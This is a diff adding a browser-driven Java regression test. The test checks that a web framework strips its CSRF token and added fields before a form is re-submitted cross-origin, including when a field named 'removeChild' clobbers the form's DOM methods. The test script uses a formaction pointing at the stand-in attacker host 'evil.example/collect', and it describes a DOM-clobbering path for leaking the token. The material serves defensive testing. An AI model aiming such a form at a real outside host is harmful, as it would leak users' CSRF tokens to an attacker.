@@ -42,6 +42,35 @@ class ScriptFormClobberingTests extends SecureSampleInChromium {
             return sent;
             """;
 
+    /** Builds a form with one field named {@code arguments[0]}, sends it to its origin, then to another. */
+    private static final String SUBMIT_TWICE = """
+            var form = document.createElement('form');
+            form.setAttribute('method', 'post');
+            form.setAttribute('action', '/somewhere');
+            form.setAttribute('target', '_blank');
+            var field = document.createElement('input');
+            field.name = arguments[0];
+            field.value = 'x';
+            Node.prototype.appendChild.call(form, field);
+            var same = document.createElement('button');
+            same.type = 'submit';
+            Node.prototype.appendChild.call(form, same);
+            var other = document.createElement('button');
+            other.type = 'submit';
+            other.setAttribute('formaction', 'https://evil.example/collect');
+            Node.prototype.appendChild.call(form, other);
+            document.body.appendChild(form);
+            var sent = [];
+            form.addEventListener('submit', function (event) {
+              event.preventDefault();
+              var fields = Element.prototype.querySelectorAll.call(form, 'input');
+              sent.push([].map.call(fields, function (i) { return i.name + '=' + i.value; }).join('&'));
+            });
+            same.click();
+            other.click();
+            return sent.join(' | ');
+            """;
+
     @Test
     void aCrossOriginFormWithAFieldNamedActionGetsNeitherTheCsrfTokenNorMounts() {
         assumeTrue(Chromium.INSTALLED, Chromium.NOT_INSTALLED);
@@ -72,6 +101,24 @@ class ScriptFormClobberingTests extends SecureSampleInChromium {
             assertThat(submit("/somewhere", name))
                     .as("a same-origin POST form with a field named '%s'", name)
                     .isEqualTo(name + "=x&_mounts=1&_csrf=" + csrfToken());
+        }
+    }
+
+    /**
+     * A form whose page stays (target=_blank) is sent to its own origin, then, through a button's
+     * formaction, to another: the fields added for the first are removed before the second, also when a
+     * field is named like the form's removeChild (seen failing before: the removal threw, and the second
+     * submission took the page's CSRF token to the other origin).
+     */
+    @Test
+    void theFieldsAddedForASameOriginSubmissionAreRemovedBeforeACrossOriginOne() {
+        assumeTrue(Chromium.INSTALLED, Chromium.NOT_INSTALLED);
+        openHomePageLoggedIn();
+
+        for (String name : new String[] { "email", "removeChild" }) {
+            assertThat(((JavascriptExecutor) browser).executeScript(SUBMIT_TWICE, name))
+                    .as("a form with a field named '%s', sent to its origin and then to another", name)
+                    .isEqualTo(name + "=x&_mounts=1&_csrf=" + csrfToken() + " | " + name + "=x");
         }
     }
 
